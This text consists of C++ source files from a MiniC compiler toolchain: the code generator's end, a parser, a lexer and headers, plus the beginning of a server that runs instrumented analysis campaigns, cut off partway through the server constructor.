                return {Operand::makeReg(v), slot->type};
            }
            return {Operand::makeReg(slot->reg), slot->type};
        }
        auto git = globalVars_.find(e.name);
        if (git != globalVars_.end()) {
            int addr = b_->emitGlobalAddr(git->second.id);
            if (git->second.isArray)
                return {Operand::makeReg(addr), ptrTo(git->second.type)};
            int v = b_->emitLoad(Operand::makeReg(addr), 8);
            return {Operand::makeReg(v), git->second.type};
        }
        if (const ir::Function *fn = module_->findFunction(e.name)) {
            int v = b_->emitFnAddr(fn->id());
            return {Operand::makeReg(v), Type::FnPtr};
        }
        semaError(e.line, "unknown identifier '" + e.name + "'");
    }

    TypedVal
    genUnary(const Expr &e)
    {
        Tok op = static_cast<Tok>(e.op);
        switch (op) {
          case Tok::Minus: {
            TypedVal v = genExpr(*e.lhs);
            return {Operand::makeReg(b_->emitUnary(Opcode::Neg, v.op)),
                    Type::Int};
          }
          case Tok::Tilde: {
            TypedVal v = genExpr(*e.lhs);
            return {Operand::makeReg(b_->emitUnary(Opcode::Not, v.op)),
                    Type::Int};
          }
          case Tok::Bang: {
            TypedVal v = genExpr(*e.lhs);
            return {Operand::makeReg(
                        b_->emitBinary(Opcode::CmpEq, v.op,
                                       Operand::makeImm(0))),
                    Type::Int};
          }
          case Tok::Star: {
            TypedVal p = genExpr(*e.lhs);
            Type elem = isPtr(p.type) ? pointee(p.type) : Type::Int;
            int v = b_->emitLoad(p.op, elemSizeOf(elem));
            return {Operand::makeReg(v), elem};
          }
          case Tok::Amp: {
            // &function gives a function pointer.
            if (e.lhs->kind == Expr::Kind::Var) {
                if (const ir::Function *fn =
                        module_->findFunction(e.lhs->name)) {
                    if (!findLocal(e.lhs->name) &&
                        !globalVars_.count(e.lhs->name)) {
                        int v = b_->emitFnAddr(fn->id());
                        return {Operand::makeReg(v), Type::FnPtr};
                    }
                }
            }
            auto [addr, elem] = genAddr(*e.lhs);
            return {addr, ptrTo(elem)};
          }
          default:
            semaError(e.line, "bad unary operator");
        }
    }

    TypedVal
    genBinary(const Expr &e)
    {
        Tok op = static_cast<Tok>(e.op);
        if (op == Tok::AndAnd || op == Tok::OrOr) {
            // Produce 0/1 through control flow.
            int result = fn_->newReg();
            int true_bb = newBlock();
            int false_bb = newBlock();
            int join_bb = newBlock();
            genCondBr(e, true_bb, false_bb);
            b_->setBlock(true_bb);
            b_->emitMoveTo(result, Operand::makeImm(1));
            b_->emitBr(join_bb);
            b_->setBlock(false_bb);
            b_->emitMoveTo(result, Operand::makeImm(0));
            b_->emitBr(join_bb);
            b_->setBlock(join_bb);
            return {Operand::makeReg(result), Type::Int};
        }

        TypedVal l = genExpr(*e.lhs);
        TypedVal r = genExpr(*e.rhs);

        Opcode opc;
        switch (op) {
          case Tok::Plus: opc = Opcode::Add; break;
          case Tok::Minus: opc = Opcode::Sub; break;
          case Tok::Star: opc = Opcode::Mul; break;
          case Tok::Slash: opc = Opcode::Div; break;
          case Tok::Percent: opc = Opcode::Rem; break;
          case Tok::Amp: opc = Opcode::And; break;
          case Tok::Pipe: opc = Opcode::Or; break;
          case Tok::Caret: opc = Opcode::Xor; break;
          case Tok::Shl: opc = Opcode::Shl; break;
          case Tok::Shr: opc = Opcode::Shr; break;
          case Tok::Eq: opc = Opcode::CmpEq; break;
          case Tok::Ne: opc = Opcode::CmpNe; break;
          case Tok::Lt: opc = Opcode::CmpLt; break;
          case Tok::Le: opc = Opcode::CmpLe; break;
          case Tok::Gt: opc = Opcode::CmpGt; break;
          case Tok::Ge: opc = Opcode::CmpGe; break;
          default:
            semaError(e.line, "bad binary operator");
        }

        // Pointer arithmetic: scale the integer side.
        if ((opc == Opcode::Add || opc == Opcode::Sub)) {
            if (isPtr(l.type) && !isPtr(r.type)) {
                int scale = elemSizeOf(pointee(l.type));
                if (scale != 1)
                    r.op = Operand::makeReg(
                        b_->emitBinary(Opcode::Mul, r.op,
                                       Operand::makeImm(scale)));
                int v = b_->emitBinary(opc, l.op, r.op);
                return {Operand::makeReg(v), l.type};
            }
            if (isPtr(r.type) && !isPtr(l.type) && opc == Opcode::Add) {
                int scale = elemSizeOf(pointee(r.type));
                if (scale != 1)
                    l.op = Operand::makeReg(
                        b_->emitBinary(Opcode::Mul, l.op,
                                       Operand::makeImm(scale)));
                int v = b_->emitBinary(opc, l.op, r.op);
                return {Operand::makeReg(v), r.type};
            }
        }
        int v = b_->emitBinary(opc, l.op, r.op);
        return {Operand::makeReg(v), Type::Int};
    }

    TypedVal
    genCall(const Expr &e)
    {
        // Builtins.
        auto bit = builtins().find(e.name);
        if (bit != builtins().end() && !findLocal(e.name)) {
            const Builtin &bi = bit->second;
            if (static_cast<int>(e.args.size()) != bi.numArgs)
                semaError(e.line, "builtin '" + e.name + "' expects " +
                                  std::to_string(bi.numArgs) +
                                  " argument(s)");
            std::vector<Operand> args;
            for (const ExprPtr &a : e.args)
                args.push_back(genExpr(*a).op);
            switch (bi.kind) {
              case Builtin::Kind::Syscall:
                return {Operand::makeReg(b_->emitSyscall(bi.id, args)),
                        bi.retType};
              case Builtin::Kind::Lib:
                return {Operand::makeReg(
                            b_->emitLibCall(
                                static_cast<ir::LibRoutine>(bi.id),
                                args)),
                        bi.retType};
              case Builtin::Kind::Puts: {
                int len = b_->emitLibCall(ir::LibRoutine::Strlen,
                                          {args[0]});
                int r = b_->emitSyscall(
                    static_cast<std::int64_t>(os::Sys::Print),
                    {args[0], Operand::makeReg(len)});
                return {Operand::makeReg(r), Type::Int};
              }
              case Builtin::Kind::Printi: {
                int buf = b_->emitAlloca(24);
                b_->emitLibCall(ir::LibRoutine::Itoa,
                                {args[0], Operand::makeReg(buf)});
                int len = b_->emitLibCall(ir::LibRoutine::Strlen,
                                          {Operand::makeReg(buf)});
                int r = b_->emitSyscall(
                    static_cast<std::int64_t>(os::Sys::Print),
                    {Operand::makeReg(buf), Operand::makeReg(len)});
                return {Operand::makeReg(r), Type::Int};
              }
              case Builtin::Kind::IMalloc: {
                int bytes = b_->emitBinary(Opcode::Mul, args[0],
                                           Operand::makeImm(8));
                int r = b_->emitLibCall(ir::LibRoutine::Malloc,
                                        {Operand::makeReg(bytes)});
                return {Operand::makeReg(r), Type::IntPtr};
              }
            }
        }

        // Indirect call through a fn-typed variable.
        const LocalSlot *slot = findLocal(e.name);
        bool is_fn_var =
            (slot && slot->type == Type::FnPtr) ||
            (!slot && globalVars_.count(e.name) &&
             globalVars_.at(e.name).type == Type::FnPtr);
        if (is_fn_var) {
            Expr var;
            var.kind = Expr::Kind::Var;
            var.line = e.line;
            var.name = e.name;
            TypedVal fp = genVar(var);
            std::vector<Operand> args;
            for (const ExprPtr &a : e.args)
                args.push_back(genExpr(*a).op);
            return {Operand::makeReg(b_->emitICall(fp.op, args)),
                    Type::Int};
        }

        // Direct user call.
        const ir::Function *callee = module_->findFunction(e.name);
        if (!callee)
            semaError(e.line, "unknown function '" + e.name + "'");
        if (static_cast<int>(e.args.size()) != callee->numParams())
            semaError(e.line, "call to '" + e.name + "' with " +
                              std::to_string(e.args.size()) +
                              " args, expected " +
                              std::to_string(callee->numParams()));
        std::vector<Operand> args;
        for (const ExprPtr &a : e.args)
            args.push_back(genExpr(*a).op);
        return {Operand::makeReg(b_->emitCall(callee->id(), args)),
                Type::Int};
    }

    struct GlobalInfo
    {
        int id;
        Type type;
        bool isArray;
    };

    struct LoopCtx
    {
        int latchBlock;
        int exitBlock;
    };

    const Program &prog_;
    std::unique_ptr<ir::Module> module_;
    std::map<std::string, GlobalInfo> globalVars_;
    std::map<std::string, int> strings_;

    // Per-function state.
    ir::Function *fn_ = nullptr;
    ir::IRBuilder *b_ = nullptr;
    int retReg_ = -1;
    int exitBlock_ = -1;
    std::set<std::string> addrTaken_;
    std::map<const Stmt *, int> declSlots_;
    std::vector<std::map<std::string, LocalSlot>> scopes_;
    std::vector<LoopCtx> loopStack_;
};

} // namespace

std::unique_ptr<ir::Module>
compile(const Program &prog)
{
    return Codegen(prog).run();
}

std::unique_ptr<ir::Module>
compileSource(const std::string &source)
{
    return compileSource(source, nullptr);
}

std::unique_ptr<ir::Module>
compileSource(const std::string &source, obs::PhaseTimer *timer)
{
    if (!timer) {
        Program prog = parse(source);
        auto module = compile(prog);
        ir::verifyOrDie(*module);
        return module;
    }
    Program prog =
        timer->time("parse", [&] { return parse(source); });
    auto module = timer->time("irgen", [&] { return compile(prog); });
    timer->time("verify", [&] { ir::verifyOrDie(*module); });
    return module;
}

} // namespace ldx::lang
