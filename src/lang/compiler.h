/**
 * @file
 * MiniC to IR code generation.
 *
 * Conventions produced here matter to the rest of the system:
 *  - every function has exactly one Ret block (the instrumenter's
 *    FCNT computation requires a single exit, Algorithm 1 line 17);
 *  - loops are emitted with a dedicated latch block, so each natural
 *    loop has exactly one back edge (latch -> header);
 *  - arrays and address-taken locals live in stack memory (allocas
 *    hoisted to the entry block); other scalars live in registers;
 *  - builtin calls lower to Syscall / LibCall instructions.
 */
#pragma once

#include <memory>
#include <string>

#include "ir/ir.h"
#include "lang/ast.h"
#include "obs/phase.h"

namespace ldx::lang {

/** Compile a parsed program. @throws ldx::FatalError on sema errors. */
std::unique_ptr<ir::Module> compile(const Program &prog);

/** Parse + compile + verify MiniC source. */
std::unique_ptr<ir::Module> compileSource(const std::string &source);

/**
 * Like compileSource(), timing the parse / irgen / verify phases into
 * @p timer (which may be null).
 */
std::unique_ptr<ir::Module> compileSource(const std::string &source,
                                          obs::PhaseTimer *timer);

} // namespace ldx::lang
