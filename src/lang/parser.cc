#include "lang/parser.h"

#include "lang/lexer.h"
#include "support/diag.h"

namespace ldx::lang {

int
elemSizeOf(Type t)
{
    switch (t) {
      case Type::Char:
      case Type::CharPtr:
        return 1;
      default:
        return 8;
    }
}

namespace {

/** Token-stream parser. */
class Parser
{
  public:
    explicit Parser(std::vector<Token> tokens)
        : toks_(std::move(tokens))
    {}

    Program
    parseProgram()
    {
        Program prog;
        while (peek().kind != Tok::End) {
            Type t = parseType();
            Token name = expect(Tok::Ident, "name");
            if (peek().kind == Tok::LParen) {
                prog.functions.push_back(parseFunction(name.text));
            } else {
                prog.globals.push_back(
                    parseVarDeclTail(t, name.text, name.line));
            }
        }
        return prog;
    }

  private:
    const Token &peek(std::size_t k = 0) const
    {
        std::size_t i = pos_ + k;
        return i < toks_.size() ? toks_[i] : toks_.back();
    }

    Token
    take()
    {
        Token t = peek();
        if (pos_ + 1 < toks_.size())
            ++pos_;
        return t;
    }

    bool
    accept(Tok kind)
    {
        if (peek().kind == kind) {
            take();
            return true;
        }
        return false;
    }

    Token
    expect(Tok kind, const std::string &what)
    {
        if (peek().kind != kind) {
            fatal("parse error at " + std::to_string(peek().line) + ":" +
                  std::to_string(peek().col) + ": expected " + what +
                  ", found " + tokName(peek().kind));
        }
        return take();
    }

    bool
    startsType() const
    {
        Tok k = peek().kind;
        return k == Tok::KwInt || k == Tok::KwChar || k == Tok::KwFn;
    }

    Type
    parseType()
    {
        if (accept(Tok::KwFn))
            return Type::FnPtr;
        if (accept(Tok::KwInt))
            return accept(Tok::Star) ? Type::IntPtr : Type::Int;
        expect(Tok::KwChar, "type");
        return accept(Tok::Star) ? Type::CharPtr : Type::Char;
    }

    VarDecl
    parseVarDeclTail(Type t, std::string name, int line)
    {
        VarDecl d;
        d.type = t;
        d.name = std::move(name);
        d.line = line;
        if (accept(Tok::LBracket)) {
            d.isArray = true;
            if (peek().kind == Tok::Number)
                d.arraySize = take().value;
            expect(Tok::RBracket, "']'");
        }
        if (accept(Tok::Assign)) {
            if (d.isArray && peek().kind == Tok::String) {
                d.strInit = take().str;
                d.hasStrInit = true;
                if (d.arraySize == 0) {
                    d.arraySize =
                        static_cast<std::int64_t>(d.strInit.size()) + 1;
                }
            } else {
                d.init = parseExpr();
            }
        }
        if (d.isArray && d.arraySize <= 0) {
            fatal("parse error at line " + std::to_string(line) +
                  ": array '" + d.name + "' needs a size");
        }
        expect(Tok::Semi, "';'");
        return d;
    }

    FuncDecl
    parseFunction(std::string name)
    {
        FuncDecl fn;
        fn.name = std::move(name);
        fn.line = peek().line;
        expect(Tok::LParen, "'('");
        if (!accept(Tok::RParen)) {
            do {
                Type t = parseType();
                Token pname = expect(Tok::Ident, "parameter name");
                VarDecl p;
                p.type = t;
                p.name = pname.text;
                p.line = pname.line;
                fn.params.push_back(std::move(p));
            } while (accept(Tok::Comma));
            expect(Tok::RParen, "')'");
        }
        fn.body = parseBlock();
        return fn;
    }

    StmtPtr
    parseBlock()
    {
        Token open = expect(Tok::LBrace, "'{'");
        auto block = std::make_unique<Stmt>();
        block->kind = Stmt::Kind::Block;
        block->line = open.line;
        while (!accept(Tok::RBrace))
            block->body.push_back(parseStmt());
        return block;
    }

    StmtPtr
    parseStmt()
    {
        const Token &t = peek();
        switch (t.kind) {
          case Tok::LBrace:
            return parseBlock();
          case Tok::KwIf: {
            auto s = std::make_unique<Stmt>();
            s->kind = Stmt::Kind::If;
            s->line = take().line;
            expect(Tok::LParen, "'('");
            s->expr = parseExpr();
            expect(Tok::RParen, "')'");
            s->thenStmt = parseStmt();
            if (accept(Tok::KwElse))
                s->elseStmt = parseStmt();
            return s;
          }
          case Tok::KwWhile: {
            auto s = std::make_unique<Stmt>();
            s->kind = Stmt::Kind::While;
            s->line = take().line;
            expect(Tok::LParen, "'('");
            s->expr = parseExpr();
            expect(Tok::RParen, "')'");
            s->thenStmt = parseStmt();
            return s;
          }
          case Tok::KwDo: {
            auto s = std::make_unique<Stmt>();
            s->kind = Stmt::Kind::DoWhile;
            s->line = take().line;
            s->thenStmt = parseStmt();
            if (!accept(Tok::KwWhile))
                expect(Tok::KwWhile, "'while'");
            expect(Tok::LParen, "'('");
            s->expr = parseExpr();
            expect(Tok::RParen, "')'");
            expect(Tok::Semi, "';'");
            return s;
          }
          case Tok::KwFor: {
            auto s = std::make_unique<Stmt>();
            s->kind = Stmt::Kind::For;
            s->line = take().line;
            expect(Tok::LParen, "'('");
            if (!accept(Tok::Semi)) {
                s->forInit = parseSimpleStmt();
                expect(Tok::Semi, "';'");
            }
            if (peek().kind != Tok::Semi)
                s->expr = parseExpr();
            expect(Tok::Semi, "';'");
            if (peek().kind != Tok::RParen)
                s->forStep = parseSimpleStmt();
            expect(Tok::RParen, "')'");
            s->thenStmt = parseStmt();
            return s;
          }
          case Tok::KwBreak: {
            auto s = std::make_unique<Stmt>();
            s->kind = Stmt::Kind::Break;
            s->line = take().line;
            expect(Tok::Semi, "';'");
            return s;
          }
          case Tok::KwContinue: {
            auto s = std::make_unique<Stmt>();
            s->kind = Stmt::Kind::Continue;
            s->line = take().line;
            expect(Tok::Semi, "';'");
            return s;
          }
          case Tok::KwReturn: {
            auto s = std::make_unique<Stmt>();
            s->kind = Stmt::Kind::Return;
            s->line = take().line;
            if (peek().kind != Tok::Semi)
                s->expr = parseExpr();
            expect(Tok::Semi, "';'");
            return s;
          }
          default: {
            StmtPtr s = parseSimpleStmt();
            expect(Tok::Semi, "';'");
            return s;
          }
        }
    }

    /** Declaration, assignment, or expression statement (no ';'). */
    StmtPtr
    parseSimpleStmt()
    {
        if (startsType()) {
            Type t = parseType();
            Token name = expect(Tok::Ident, "variable name");
            auto s = std::make_unique<Stmt>();
            s->kind = Stmt::Kind::Decl;
            s->line = name.line;
            VarDecl d;
            d.type = t;
            d.name = name.text;
            d.line = name.line;
            if (accept(Tok::LBracket)) {
                d.isArray = true;
                if (peek().kind == Tok::Number)
                    d.arraySize = take().value;
                expect(Tok::RBracket, "']'");
                if (accept(Tok::Assign)) {
                    if (peek().kind != Tok::String)
                        fatal("array initializer must be a string "
                              "(line " + std::to_string(name.line) + ")");
                    d.strInit = take().str;
                    d.hasStrInit = true;
                    if (d.arraySize == 0) {
                        d.arraySize = static_cast<std::int64_t>(
                            d.strInit.size()) + 1;
                    }
                }
                if (d.arraySize <= 0) {
                    fatal("array '" + d.name + "' needs a size (line " +
                          std::to_string(name.line) + ")");
                }
            } else if (accept(Tok::Assign)) {
                d.init = parseExpr();
            }
            s->decl = std::move(d);
            return s;
        }
        ExprPtr e = parseExpr();
        if (accept(Tok::Assign)) {
            auto s = std::make_unique<Stmt>();
            s->kind = Stmt::Kind::Assign;
            s->line = e->line;
            s->lhs = std::move(e);
            s->expr = parseExpr();
            return s;
        }
        auto s = std::make_unique<Stmt>();
        s->kind = Stmt::Kind::ExprStmt;
        s->line = e->line;
        s->expr = std::move(e);
        return s;
    }

    // Expression precedence (low to high):
    //   || ; && ; | ; ^ ; & ; == != ; < <= > >= ; << >> ; + - ;
    //   * / % ; unary ; postfix
    ExprPtr
    parseExpr()
    {
        return parseBinary(0);
    }

    static int
    precOf(Tok k)
    {
        switch (k) {
          case Tok::OrOr: return 1;
          case Tok::AndAnd: return 2;
          case Tok::Pipe: return 3;
          case Tok::Caret: return 4;
          case Tok::Amp: return 5;
          case Tok::Eq: case Tok::Ne: return 6;
          case Tok::Lt: case Tok::Le: case Tok::Gt: case Tok::Ge:
            return 7;
          case Tok::Shl: case Tok::Shr: return 8;
          case Tok::Plus: case Tok::Minus: return 9;
          case Tok::Star: case Tok::Slash: case Tok::Percent: return 10;
          default: return -1;
        }
    }

    ExprPtr
    parseBinary(int min_prec)
    {
        ExprPtr lhs = parseUnary();
        while (true) {
            int prec = precOf(peek().kind);
            if (prec < 0 || prec < min_prec)
                return lhs;
            Token op = take();
            ExprPtr rhs = parseBinary(prec + 1);
            auto e = std::make_unique<Expr>();
            e->kind = Expr::Kind::Binary;
            e->line = op.line;
            e->op = static_cast<int>(op.kind);
            e->lhs = std::move(lhs);
            e->rhs = std::move(rhs);
            lhs = std::move(e);
        }
    }

    ExprPtr
    parseUnary()
    {
        Tok k = peek().kind;
        if (k == Tok::Minus || k == Tok::Bang || k == Tok::Tilde ||
            k == Tok::Star || k == Tok::Amp) {
            Token op = take();
            auto e = std::make_unique<Expr>();
            e->kind = Expr::Kind::Unary;
            e->line = op.line;
            e->op = static_cast<int>(op.kind);
            e->lhs = parseUnary();
            return e;
        }
        return parsePostfix();
    }

    ExprPtr
    parsePostfix()
    {
        ExprPtr e = parsePrimary();
        while (true) {
            if (accept(Tok::LBracket)) {
                auto idx = std::make_unique<Expr>();
                idx->kind = Expr::Kind::Index;
                idx->line = e->line;
                idx->lhs = std::move(e);
                idx->rhs = parseExpr();
                expect(Tok::RBracket, "']'");
                e = std::move(idx);
            } else {
                return e;
            }
        }
    }

    ExprPtr
    parsePrimary()
    {
        const Token &t = peek();
        switch (t.kind) {
          case Tok::Number: {
            Token n = take();
            auto e = std::make_unique<Expr>();
            e->kind = Expr::Kind::Num;
            e->line = n.line;
            e->value = n.value;
            return e;
          }
          case Tok::CharLit: {
            Token n = take();
            auto e = std::make_unique<Expr>();
            e->kind = Expr::Kind::Num;
            e->line = n.line;
            e->value = n.value;
            return e;
          }
          case Tok::String: {
            Token n = take();
            auto e = std::make_unique<Expr>();
            e->kind = Expr::Kind::Str;
            e->line = n.line;
            e->str = n.str;
            return e;
          }
          case Tok::Ident: {
            Token n = take();
            if (accept(Tok::LParen)) {
                auto e = std::make_unique<Expr>();
                e->kind = Expr::Kind::Call;
                e->line = n.line;
                e->name = n.text;
                if (!accept(Tok::RParen)) {
                    do {
                        e->args.push_back(parseExpr());
                    } while (accept(Tok::Comma));
                    expect(Tok::RParen, "')'");
                }
                return e;
            }
            auto e = std::make_unique<Expr>();
            e->kind = Expr::Kind::Var;
            e->line = n.line;
            e->name = n.text;
            return e;
          }
          case Tok::LParen: {
            take();
            ExprPtr e = parseExpr();
            expect(Tok::RParen, "')'");
            return e;
          }
          default:
            fatal("parse error at " + std::to_string(t.line) + ":" +
                  std::to_string(t.col) + ": unexpected " +
                  tokName(t.kind));
        }
    }

    std::vector<Token> toks_;
    std::size_t pos_ = 0;
};

} // namespace

Program
parse(const std::string &source)
{
    return Parser(lex(source)).parseProgram();
}

} // namespace ldx::lang
