/**
 * @file
 * Recursive-descent parser for MiniC.
 */
#pragma once

#include <string>

#include "lang/ast.h"

namespace ldx::lang {

/**
 * Parse @p source into a Program.
 * @throws ldx::FatalError with position info on syntax errors.
 */
Program parse(const std::string &source);

} // namespace ldx::lang
