#include "lang/lexer.h"

#include <cctype>
#include <map>

#include "support/diag.h"

namespace ldx::lang {

const char *
tokName(Tok kind)
{
    switch (kind) {
      case Tok::End: return "<eof>";
      case Tok::Ident: return "identifier";
      case Tok::Number: return "number";
      case Tok::String: return "string";
      case Tok::CharLit: return "char";
      case Tok::KwInt: return "'int'";
      case Tok::KwChar: return "'char'";
      case Tok::KwFn: return "'fn'";
      case Tok::KwIf: return "'if'";
      case Tok::KwElse: return "'else'";
      case Tok::KwWhile: return "'while'";
      case Tok::KwFor: return "'for'";
      case Tok::KwDo: return "'do'";
      case Tok::KwBreak: return "'break'";
      case Tok::KwContinue: return "'continue'";
      case Tok::KwReturn: return "'return'";
      case Tok::LParen: return "'('";
      case Tok::RParen: return "')'";
      case Tok::LBrace: return "'{'";
      case Tok::RBrace: return "'}'";
      case Tok::LBracket: return "'['";
      case Tok::RBracket: return "']'";
      case Tok::Comma: return "','";
      case Tok::Semi: return "';'";
      case Tok::Assign: return "'='";
      case Tok::Plus: return "'+'";
      case Tok::Minus: return "'-'";
      case Tok::Star: return "'*'";
      case Tok::Slash: return "'/'";
      case Tok::Percent: return "'%'";
      case Tok::Amp: return "'&'";
      case Tok::Pipe: return "'|'";
      case Tok::Caret: return "'^'";
      case Tok::Tilde: return "'~'";
      case Tok::Bang: return "'!'";
      case Tok::Shl: return "'<<'";
      case Tok::Shr: return "'>>'";
      case Tok::AndAnd: return "'&&'";
      case Tok::OrOr: return "'||'";
      case Tok::Eq: return "'=='";
      case Tok::Ne: return "'!='";
      case Tok::Lt: return "'<'";
      case Tok::Le: return "'<='";
      case Tok::Gt: return "'>'";
      case Tok::Ge: return "'>='";
    }
    return "?";
}

namespace {

const std::map<std::string, Tok> kKeywords = {
    {"int", Tok::KwInt},     {"char", Tok::KwChar},
    {"fn", Tok::KwFn},       {"if", Tok::KwIf},
    {"else", Tok::KwElse},   {"while", Tok::KwWhile},
    {"for", Tok::KwFor},     {"do", Tok::KwDo},
    {"break", Tok::KwBreak}, {"continue", Tok::KwContinue},
    {"return", Tok::KwReturn},
};

[[noreturn]] void
lexError(int line, int col, const std::string &msg)
{
    fatal("lex error at " + std::to_string(line) + ":" +
          std::to_string(col) + ": " + msg);
}

char
decodeEscape(char c, int line, int col)
{
    switch (c) {
      case 'n': return '\n';
      case 't': return '\t';
      case 'r': return '\r';
      case '0': return '\0';
      case '\\': return '\\';
      case '\'': return '\'';
      case '"': return '"';
      default:
        lexError(line, col, std::string("bad escape '\\") + c + "'");
    }
}

} // namespace

std::vector<Token>
lex(const std::string &src)
{
    std::vector<Token> out;
    std::size_t i = 0;
    int line = 1, col = 1;

    auto peek = [&](std::size_t k = 0) -> char {
        return i + k < src.size() ? src[i + k] : '\0';
    };
    auto advance = [&]() {
        if (src[i] == '\n') {
            ++line;
            col = 1;
        } else {
            ++col;
        }
        ++i;
    };
    auto push = [&](Tok kind, int l, int c) -> Token & {
        Token t;
        t.kind = kind;
        t.line = l;
        t.col = c;
        out.push_back(std::move(t));
        return out.back();
    };

    while (i < src.size()) {
        char c = peek();
        int l = line, cl = col;
        if (std::isspace(static_cast<unsigned char>(c))) {
            advance();
            continue;
        }
        if (c == '/' && peek(1) == '/') {
            while (i < src.size() && peek() != '\n')
                advance();
            continue;
        }
        if (c == '/' && peek(1) == '*') {
            advance();
            advance();
            while (i < src.size() && !(peek() == '*' && peek(1) == '/'))
                advance();
            if (i >= src.size())
                lexError(l, cl, "unterminated block comment");
            advance();
            advance();
            continue;
        }
        if (std::isalpha(static_cast<unsigned char>(c)) || c == '_') {
            std::string text;
            while (std::isalnum(static_cast<unsigned char>(peek())) ||
                   peek() == '_') {
                text += peek();
                advance();
            }
            auto kw = kKeywords.find(text);
            Token &t = push(kw == kKeywords.end() ? Tok::Ident
                                                  : kw->second, l, cl);
            t.text = std::move(text);
            continue;
        }
        if (std::isdigit(static_cast<unsigned char>(c))) {
            std::int64_t v = 0;
            if (c == '0' && (peek(1) == 'x' || peek(1) == 'X')) {
                advance();
                advance();
                if (!std::isxdigit(static_cast<unsigned char>(peek())))
                    lexError(l, cl, "bad hex literal");
                while (std::isxdigit(static_cast<unsigned char>(peek()))) {
                    char h = peek();
                    int d = h <= '9' ? h - '0'
                                     : (std::tolower(h) - 'a' + 10);
                    v = v * 16 + d;
                    advance();
                }
            } else {
                while (std::isdigit(static_cast<unsigned char>(peek()))) {
                    v = v * 10 + (peek() - '0');
                    advance();
                }
            }
            Token &t = push(Tok::Number, l, cl);
            t.value = v;
            continue;
        }
        if (c == '"') {
            advance();
            std::string s;
            while (peek() != '"') {
                if (i >= src.size() || peek() == '\n')
                    lexError(l, cl, "unterminated string");
                if (peek() == '\\') {
                    advance();
                    s += decodeEscape(peek(), line, col);
                    advance();
                } else {
                    s += peek();
                    advance();
                }
            }
            advance();
            Token &t = push(Tok::String, l, cl);
            t.str = std::move(s);
            continue;
        }
        if (c == '\'') {
            advance();
            char v;
            if (peek() == '\\') {
                advance();
                v = decodeEscape(peek(), line, col);
                advance();
            } else {
                v = peek();
                advance();
            }
            if (peek() != '\'')
                lexError(l, cl, "unterminated char literal");
            advance();
            Token &t = push(Tok::CharLit, l, cl);
            t.value = static_cast<std::int64_t>(
                static_cast<unsigned char>(v));
            continue;
        }
        auto two = [&](char c2, Tok kind) -> bool {
            if (peek(1) == c2) {
                advance();
                advance();
                push(kind, l, cl);
                return true;
            }
            return false;
        };
        switch (c) {
          case '(': advance(); push(Tok::LParen, l, cl); break;
          case ')': advance(); push(Tok::RParen, l, cl); break;
          case '{': advance(); push(Tok::LBrace, l, cl); break;
          case '}': advance(); push(Tok::RBrace, l, cl); break;
          case '[': advance(); push(Tok::LBracket, l, cl); break;
          case ']': advance(); push(Tok::RBracket, l, cl); break;
          case ',': advance(); push(Tok::Comma, l, cl); break;
          case ';': advance(); push(Tok::Semi, l, cl); break;
          case '+': advance(); push(Tok::Plus, l, cl); break;
          case '-': advance(); push(Tok::Minus, l, cl); break;
          case '*': advance(); push(Tok::Star, l, cl); break;
          case '/': advance(); push(Tok::Slash, l, cl); break;
          case '%': advance(); push(Tok::Percent, l, cl); break;
          case '~': advance(); push(Tok::Tilde, l, cl); break;
          case '^': advance(); push(Tok::Caret, l, cl); break;
          case '&':
            if (!two('&', Tok::AndAnd)) {
                advance();
                push(Tok::Amp, l, cl);
            }
            break;
          case '|':
            if (!two('|', Tok::OrOr)) {
                advance();
                push(Tok::Pipe, l, cl);
            }
            break;
          case '=':
            if (!two('=', Tok::Eq)) {
                advance();
                push(Tok::Assign, l, cl);
            }
            break;
          case '!':
            if (!two('=', Tok::Ne)) {
                advance();
                push(Tok::Bang, l, cl);
            }
            break;
          case '<':
            if (!two('=', Tok::Le) && !two('<', Tok::Shl)) {
                advance();
                push(Tok::Lt, l, cl);
            }
            break;
          case '>':
            if (!two('=', Tok::Ge) && !two('>', Tok::Shr)) {
                advance();
                push(Tok::Gt, l, cl);
            }
            break;
          default:
            lexError(l, cl, std::string("unexpected character '") + c +
                            "'");
        }
    }
    push(Tok::End, line, col);
    return out;
}

} // namespace ldx::lang
