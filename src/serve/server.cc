#include "serve/server.h"

#include <poll.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#include <cerrno>
#include <chrono>
#include <cstring>
#include <utility>

#include "fuzz/generator.h"
#include "instrument/instrument.h"
#include "lang/compiler.h"
#include "query/campaign.h"
#include "serve/protocol.h"
#include "support/diag.h"
#include "workloads/corpus/corpus.h"
#include "workloads/workloads.h"

namespace ldx::serve {

namespace {

/** One resolved job: the program + world a submit frame names. */
struct ResolvedJob
{
    const ir::Module *module = nullptr;
    std::unique_ptr<ir::Module> owned; ///< backs module when compiled
    std::shared_ptr<vm::PredecodedModule> predecoded;
    os::WorldSpec world;
    core::SinkConfig sinks;
};

/**
 * Resolve a submit frame exactly the way `ldx campaign <arg>` does:
 * a built-in workload (its sinks apply), a promoted corpus entry
 * (world re-derived from the generator seed), or inline source with
 * an env/files world — so a served graph byte-matches the offline
 * artifact. Throws FatalError on a bad program.
 */
ResolvedJob
resolveJob(const SubmitRequest &req)
{
    ResolvedJob job;
    if (!req.workload.empty()) {
        if (const workloads::Workload *w =
                workloads::findWorkload(req.workload)) {
            job.sinks = w->sinks;
            job.module = &workloads::workloadModule(*w, true);
            job.world = w->world(w->defaultScale);
            return job;
        }
        for (const workloads::CorpusEntry &e :
             workloads::corpusEntries()) {
            if (e.name != req.workload)
                continue;
            job.owned = lang::compileSource(e.source);
            instrument::CounterInstrumenter pass(*job.owned);
            pass.run();
            job.module = job.owned.get();
            job.world = fuzz::ProgramGenerator::worldFor(e.seed);
            return job;
        }
        fatal("unknown workload or corpus entry: " + req.workload);
    }
    job.owned = lang::compileSource(req.source);
    instrument::CounterInstrumenter pass(*job.owned);
    pass.run();
    job.module = job.owned.get();
    for (const auto &[k, v] : req.env)
        job.world.env[k] = v;
    for (const auto &[k, v] : req.files)
        job.world.files[k] = v;
    return job;
}

core::MutationStrategy
policyByName(const std::string &name)
{
    if (name == "zero")
        return core::MutationStrategy::Zero;
    if (name == "bit-flip")
        return core::MutationStrategy::BitFlip;
    if (name == "random")
        return core::MutationStrategy::Random;
    return core::MutationStrategy::OffByOne;
}

} // namespace

/** One client connection (its socket plus write serialization). */
struct Server::Connection
{
    int fd = -1;
    std::uint64_t id = 0;
    std::mutex writeMutex;
    std::atomic<bool> alive{true};
    std::string readBuf;
};

Server::Server(const ServeConfig &cfg)
    : cfg_(cfg),
      pool_([&] {
          query::SharedPool::Config pc;
          pc.jobs = cfg.jobs;
